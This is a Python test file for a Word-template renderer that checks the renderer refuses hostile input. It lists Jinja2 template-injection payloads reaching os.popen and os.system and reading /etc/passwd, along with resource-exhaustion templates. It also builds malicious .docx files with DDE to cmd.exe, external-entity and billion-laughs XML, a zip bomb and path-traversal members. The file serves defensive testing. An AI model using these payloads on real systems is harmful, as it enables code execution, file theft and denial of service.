"""A template from outside is data: none of these runs code, reads, reaches out, or takes 10 seconds or 500 MB."""

from __future__ import annotations

import json
import os
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
from wordfiles import members, paragraph_texts, rewritten, with_body, with_relationship, word_file

from sopkit.documents.package import WORD
from sopkit.documents.template import TemplateRefused, WordTemplate

CODE = {
    "popen through a global": "{{ cycler.__init__.__globals__.os.popen('touch /tmp/pwned').read() }}",
    "subclasses of object": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "class of a field": "{{ nomor.__class__ }}",
    "globals of lipsum": "{{ lipsum.__globals__['os'].system('id') }}",
    "the template itself": "{{ self._TemplateReference__context }}",
    "attr filter": "{{ nomor|attr('__class__') }}",
    "attr filter by map": "{{ ['x']|map(attribute='__class__')|list }}",
    "format string": "{{ '{0.__class__.__mro__}'.format(nomor) }}",
    "format map": "{{ '{x.__class__}'.format_map({'x': nomor}) }}",
    "globals of a function": "{{ fungsi.__globals__ }}",
    "code of a function": "{{ fungsi.__code__.co_filename }}",
    "frame of a generator": "{{ (butir|map(attribute='nama')).gi_frame.f_globals }}",
    "method with consequences": "{{ jebakan.delete() }}",
    "method by call block": "{% call jebakan.delete() %}{% endcall %}",
    "deleting a path": "{{ berkas.unlink() }}",
    "reading a path": "{{ berkas.read_bytes() }}",
    "changing a list": "{{ butir.append(1) }}",
    "changing a mapping": "{% set _ = kasus.update({'uraian': 'y'}) %}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'os' as os %}{{ os.name }}",
    "from import": "{% from 'os' import name %}",
    "extends": "{% extends '/etc/passwd' %}",
    "escaping switched off": "{% autoescape false %}{{ nomor }}{% endautoescape %}",
    "data as markup": "{{ nomor|safe }}",
    "internals of a loop": "{% for b in butir %}{{ loop._iterator.__class__ }}{% endfor %}",
    "joiner": "{{ joiner.__init__.__globals__ }}",
    "namespace": "{{ namespace.__init__.__globals__ }}",
    "underscore name": "{{ __import__('os') }}",
    "the run's own counter": "{{ environment }}{{ context }}",
}
GREED = {
    "nested loops": "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
    "nested loops that print": "{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}",
    "loops with a filter": "{% for a in range(99999) if range(99999)|sum == 1 %}{% endfor %}",
    "loops with a search": "{% set l = range(99999)|list %}{% for a in l if -1 in l %}{% endfor %}",
    "range": "{{ range(10**9)|list|length }}",
    "text times number": "{{ 'A' * 10**8 }}",
    "number times text": "{{ 10**8 * 'A' }}",
    "list times number": "{{ ([0] * 10**8)|length }}",
    "tower of powers": "{{ 10**(10**10) }}",
    "squaring": "{% set n = namespace(x=7) %}{% for i in range(60) %}{% set n.x = n.x * n.x %}{% endfor %}{{ n.x }}",
    "doubling text": "{% set n = namespace(x='a') %}{% for i in range(60) %}{% set n.x = n.x ~ n.x %}{% endfor %}",
    "adding text": "{% set n = namespace(x='a') %}{% for i in range(60) %}{% set n.x = n.x + n.x %}{% endfor %}",
    "doubling blocks": "{% set n = namespace(x='a') %}{% for i in range(60) %}{% set y %}{{ n.x }}{{ n.x }}{% endset %}"
    "{% set n.x = y %}{% endfor %}",
    "laughing lists": "{% set a = ['x'] %}" + "{% set a = [a, a] %}" * 40 + "{{ a }}",
    "laughing lists compared": "{% set a = 'x' %}{% set b = 'x' %}"
    + "{% set a = [a, a] %}{% set b = [b, b] %}" * 40
    + "{{ a == b }}",
    "laughing mappings": "{% set a = 'x' %}" + "{% set a = {1: a, 2: a} %}" * 40 + "{{ a }}",
    "laughing calls": "{% set a = 'x' %}" + "{% set a = dict(k=a, l=a) %}" * 40 + "{{ a }}",
    "hoarding": "{% set n = namespace(x=[]) %}{% for i in range(9999) %}{% set n.x = n.x + [nomor ~ i] %}{% endfor %}",
    "center": "{{ 'x'|center(10**9) }}",
    "center by map": "{{ range(99999)|map('center', 99999)|list|length }}",
    "ljust": "{{ 'x'.ljust(10**9) }}",
    "zfill": "{{ nomor.zfill(10**9) }}",
    "percent width": "{{ '%999999999d' % 1 }}",
    "percent star": "{{ '%*d' % (999999999, 1) }}",
    "format filter": "{{ '%999999999s'|format('x') }}",
    "format method": "{{ '{:>999999999}'.format('x') }}",
    "replace": "{% set n = namespace(x='a') %}{% for i in range(50) %}{% set n.x=n.x|replace('a', 'aa') %}{% endfor %}",
    "replace method": "{{ panjang.replace('x', panjang) }}",
    "join": "{{ range(99999)|join(panjang) }}",
    "join method": "{{ panjang.join(['a'] * 9999) }}",
    "indent": "{{ panjang|indent(10**9, true) }}",
    "wordwrap": "{{ panjang|wordwrap(1, true, panjang) }}",
    "slice": "{{ butir|slice(10**9)|list|length }}",
    "batch": "{{ butir|batch(10**9, 'x')|list|length }}",
    "bytes of a number": "{{ (1).to_bytes(10**9, 'big') }}",
    "date format": "{{ tanggal.strftime('%999999999d') }}",
    "recursion": "{% macro m(n) %}{{ m(n + 1) }}{% endmacro %}{{ m(1) }}",
    "branching recursion": "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(60) }}",
    "silent recursion": "{% macro m(n) %}{% if n %}{% set x = m(n-1) ~ m(n-1) %}{% endif %}{% endmacro %}{{ m(60) }}",
    "recursive loop": "{% for a in [[1]] recursive %}{{ loop([[1]]) }}{% endfor %}",
    "decimal digits": "{{ (10 ** 1000 * 10 ** 1000) ** 3 }}",
    "padding": "{{ 'x'|truncate(5, true, panjang * 99) }}",
    "deep brackets": "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
    "deep lists": "{{ " + "[" * 3000 + "]" * 3000 + " }}",
    "deep conditions": "{% if 1 %}" * 900 + "x" + "{% endif %}" * 900,
    "deep loops": "{% for a in butir %}" * 60 + "x" + "{% endfor %}" * 60,
    "long sum": "{{ " + "+".join(["1"] * 30_000) + " }}",
    "unclosed tags": "{{ " * 60_000,
    "unclosed tags with one end": "{{ " * 60_000 + "}}",
    "unclosed blocks": "{% if " * 60_000,
    "prefixed tags": "{%p " * 30_000,
    "many tags": "{{ nomor }}" * 30_000,
    "cells without end": "{% vm %}" * 20_000,
    "printing much": "{% for a in range(99999) %}{{ panjang }}{% endfor %}",
}
HARMLESS = {"long sum"}


def _external(kind: str, target: str) -> Callable[[Path], object]:
    return lambda path: with_relationship(path, kind, target)


def _part(name: str, data: bytes) -> Callable[[Path], object]:
    return lambda path: rewritten(path, {name: data})


def _body(xml: str) -> Callable[[Path], object]:
    return lambda path: with_body(path, xml)


def _swap(name: str, old: bytes, new: bytes) -> Callable[[Path], object]:
    def change(held: dict[str, bytes]) -> None:
        assert old in held[name]
        held[name] = held[name].replace(old, new, 1)

    return lambda path: rewritten(path, change)


def _raw(change: Callable[[bytes], bytes]) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(change(path.read_bytes()))


def _without(name: str) -> Callable[[Path], object]:
    return lambda path: rewritten(path, lambda held: held.pop(name) and None)


def _zip_bomb(path: Path) -> None:
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive, archive.open("word/bom.bin", "w") as member:
        for _ in range(200):
            member.write(bytes(1_000_000))


def _twice(path: Path) -> None:
    data = members(path)["word/document.xml"]
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("WORD/document.xml", data)


def _lying_size(data: bytes) -> bytes:
    """The directory claims a smaller document than the one that is packed."""
    at = data.rindex(b"word/document.xml") - 46
    size = struct.unpack("<L", data[at + 24 : at + 28])[0]
    return data[: at + 24] + struct.pack("<L", size // 2) + data[at + 28 :]


def _encrypted(data: bytes) -> bytes:
    at = data.rindex(b"word/document.xml") - 46
    return data[: at + 8] + b"\x01" + data[at + 9 :]


DOCUMENT = "word/document.xml"
MAIN_TYPE = b"vnd.openxmlformats-officedocument.wordprocessingml.document.main"
XML = b"<?xml version='1.0' encoding='UTF-8' standalone='yes'?>"
PACKAGES: dict[str, Callable[[Path], object]] = {
    "macros": _part("word/vbaProject.bin", b"x"),
    "macro-enabled type": _swap("[Content_Types].xml", MAIN_TYPE, b"vnd.ms-word.document.macroEnabled.main"),
    "OLE relationship": _external("oleObject", "http://jahat.example/a.bin"),
    "OLE element": _body('<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"/>'
                         "</w:object></w:r></w:p>"),
    "ActiveX": _external("control", "activeX/activeX1.xml"),
    "embedded package": lambda path: with_relationship(
        rewritten(path, {"word/embeddings/a.xlsx": b"PK"}), "package", "embeddings/a.xlsx", external=False),
    "menu of its own": lambda path: with_relationship(
        rewritten(path, {"customUI/a.xml": b"<customUI/>"}), "ui/extensibility", "/customUI/a.xml", external=False),
    "altChunk": _body("<w:altChunk/>"),
    "altChunk relationship": _external("aFChunk", "http://jahat.example/a.html"),
    "attached template": _external("attachedTemplate", "http://jahat.example/a.dotm"),
    "external picture": _external("image", "http://jahat.example/a.png"),
    "external picture on a share": _external("image", r"file:///\\jahat\a.png"),
    "sub-document": _external("subDocument", "http://jahat.example/a.docx"),
    "frame": _external("frame", "http://jahat.example/"),
    "external settings": _external("settings", "http://jahat.example/settings.xml"),
    "dangling relationship": lambda path: with_relationship(path, "image", "media/tidak-ada.png", external=False),
    "VML picture by address": _body('<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" '
                                    'src="http://jahat.example/a.png"/></w:pict></w:r></w:p>'),
    "INCLUDEPICTURE": _body('<w:p><w:fldSimple w:instr=" INCLUDEPICTURE http://jahat.example/a \\d"/></w:p>'),
    "DDE split over runs": _body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText>'
                                 '</w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r>'
                                 '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    "INCLUDETEXT within a field": _body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>IF 1 = </w:instrText>'
        '<w:fldChar w:fldCharType="begin"/>'
        '<w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText><w:fldChar w:fldCharType="end"/>'
        '<w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    "mail merge": _swap("word/settings.xml", b"<w:zoom", b"<w:mailMerge/><w:zoom"),
    "entities": _swap(DOCUMENT, XML, XML + b'<!DOCTYPE x [<!ENTITY a "b">]>'),
    "billion laughs": _swap(DOCUMENT, XML, XML + b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + b"".join(
        b'<!ENTITY a%d "&a%s;&a%s;">' % (n, b"%d" % (n - 1) if n else b"", b"%d" % (n - 1) if n else b"")
        for n in range(30)) + b"]>"),
    "external entity": _swap(DOCUMENT, XML, XML + b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
    "entities in a header's relationships": _part("word/_rels/header9.xml.rels", b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'),
    "UTF-16": lambda path: rewritten(
        path, {DOCUMENT: members(path)[DOCUMENT].decode().replace("UTF-8", "UTF-16").encode("utf-16")}),
    "UTF-7": _swap(DOCUMENT, b"'UTF-8'", b"'UTF-7'"),
    "deep elements": _body("<w:p>" * 5000 + "</w:p>" * 5000),
    "broken XML": _swap(DOCUMENT, b"<w:body>", b"<w:body><w:p>"),
    "zip bomb": _zip_bomb,
    "huge XML": _body("<w:p/>" * 900_000),
    "many members": lambda path: rewritten(path, {f"word/m{n}.bin": b"" for n in range(2_500)}),
    "two documents by one name": _twice,
    "member outside": _part("../../jahat.txt", b"x"),
    "absolute member": _part("/etc/jahat", b"x"),
    "lying size": _raw(_lying_size),
    "encrypted member": _raw(_encrypted),
    "cut off": _raw(lambda data: data[: len(data) // 2]),
    "flipped bytes": _raw(lambda data: data[:200] + bytes(255 - byte for byte in data[200:900]) + data[900:]),
    "no zip": _raw(lambda data: b"{\\rtf1 {{ nomor }}}"),
    "old Word": _raw(lambda data: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + data),
    "empty": _raw(lambda data: b""),
    "no content types": _without("[Content_Types].xml"),
    "a workbook": _swap("[Content_Types].xml", b"wordprocessingml.document.main", b"spreadsheetml.sheet.main"),
    "no document": _without(DOCUMENT),
}  # fmt: skip


BULK: dict[str, Callable[[Path], object]] = {
    "many paragraphs": _body("<w:p/>" * 100_000),
    "many attributes": _body("<w:p " + " ".join(f'w:a{n}=""' for n in range(60_000)) + "/>"),
    "long word": _body("<w:p><w:r><w:t>" + "x" * 2_900_000 + "{{ nomor }}</w:t></w:r></w:p>"),
}
PLACES = ("header", "footnote", "title")
HIDDEN = {f"{kind} in {PLACES[number % 3]}": text for number, (kind, text) in enumerate(CODE.items())}


def _write_kinds(folder: Path) -> None:
    base = word_file(folder / "biasa.docx", "DI body", header="DI header", footnote="DI footnote", title="DI title")
    held = members(base)
    for name, root in (("styles", "styles"), ("stylesWithEffects", "styles"), ("numbering", "numbering")):
        held[f"word/{name}.xml"] = (
            f'<w:{root} xmlns:w="{WORD}"/>'.encode()
        )  # the default's are large, and read each time

    def write(kind: str, place: str, text: str) -> Path:
        with zipfile.ZipFile(folder / "jahat" / f"{kind}.docx", "w") as archive:
            for name, data in held.items():
                archive.writestr(name, data.replace(f"DI {place}".encode(), escape(text).encode()))
        return folder / "jahat" / f"{kind}.docx"

    for kind, text in {**CODE, **GREED}.items():
        write(kind, "body", text)
    for kind, text in HIDDEN.items():
        write(kind, kind.rsplit(" ", 1)[1], text)
    for kind, spoil in {**PACKAGES, **BULK}.items():
        spoil(write(kind, "body", "{{ nomor }}"))


@pytest.fixture(scope="module")
def outcome(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """All kinds rendered in one watched process: a template that breaks out spoils no test run."""
    folder = tmp_path_factory.mktemp("templat")
    (folder / "jahat").mkdir()
    _write_kinds(folder)
    search = os.pathsep.join([str(Path(__file__).parent.parent), *sys.path])
    ran = subprocess.run(
        [sys.executable, str(Path(__file__).parent / "hostile_templates.py"), str(folder)],
        capture_output=True, text=True, timeout=300, check=False, env={**os.environ, "PYTHONPATH": search},
    )  # fmt: skip
    assert ran.returncode == 0, ran.stderr[-2000:]
    return dict(json.loads(ran.stdout))


def _harmless(found: dict[str, Any]) -> None:
    assert found["seconds"] < 10
    assert not found["touched"]
    assert not found["sprung"]


@pytest.mark.parametrize("kind", [*CODE, *HIDDEN])
def test_no_template_runs_code(outcome: dict[str, Any], kind: str) -> None:
    found = outcome["kinds"][kind]
    assert found["end"].startswith(("T02", "T05"))
    _harmless(found)


@pytest.mark.parametrize("kind", [*GREED, *BULK])
def test_no_template_takes_all_time_or_memory(outcome: dict[str, Any], kind: str) -> None:
    found = outcome["kinds"][kind]
    assert found["end"].startswith("T02") or kind in HARMLESS or kind in BULK
    _harmless(found)


@pytest.mark.parametrize("kind", PACKAGES)
def test_a_file_that_is_no_harmless_docx_is_refused(outcome: dict[str, Any], kind: str) -> None:
    found = outcome["kinds"][kind]
    assert found["end"].startswith("T03")
    _harmless(found)


def test_all_of_them_take_little_memory(outcome: dict[str, Any]) -> None:
    assert outcome["megabytes"] < 400


@pytest.mark.parametrize("name", ["templat.docm", "templat.dotm", "templat.doc", "templat", "templat.xlsx"])
def test_other_formats_are_refused_by_name(tmp_path: Path, name: str) -> None:
    path = word_file(tmp_path / "a.docx", "isi").rename(tmp_path / name)
    with pytest.raises(TemplateRefused) as caught:
        WordTemplate(path)
    assert caught.value.code == "T03" and name in str(caught.value) and caught.value.remedy


def test_a_missing_template_is_refused(tmp_path: Path) -> None:
    with pytest.raises(TemplateRefused, match="tidak ada"):
        WordTemplate(tmp_path / "tidak-ada.docx")


def test_hyperlinks_and_ordinary_fields_may_stay(tmp_path: Path) -> None:
    path = with_relationship(word_file(tmp_path / "a.docx", "{{ nomor }}"), "hyperlink", "https://bandungan.example/")
    with_body(path, '<w:p><w:fldSimple w:instr=" PAGE "/><w:fldSimple w:instr=" HYPERLINK x "/></w:p>')
    assert paragraph_texts(WordTemplate(path).render({"nomor": "1"}))[-1] == "1"


def test_what_a_template_prints_is_never_a_template(tmp_path: Path) -> None:
    """docxtpl renders footnotes once for each section: a value that looks like a tag would run."""
    path = word_file(tmp_path / "a.docx", "{{ nomor }}", footnote="{{ nomor }}")
    section = "<w:p><w:pPr><w:sectPr/></w:pPr></w:p>"
    data = WordTemplate(with_body(path, section)).render({"nomor": "{{ 7*7 }}"})
    assert all(b"{{ 7*7 }}" in members(data)[f"word/{part}.xml"] for part in ("document", "footnotes"))
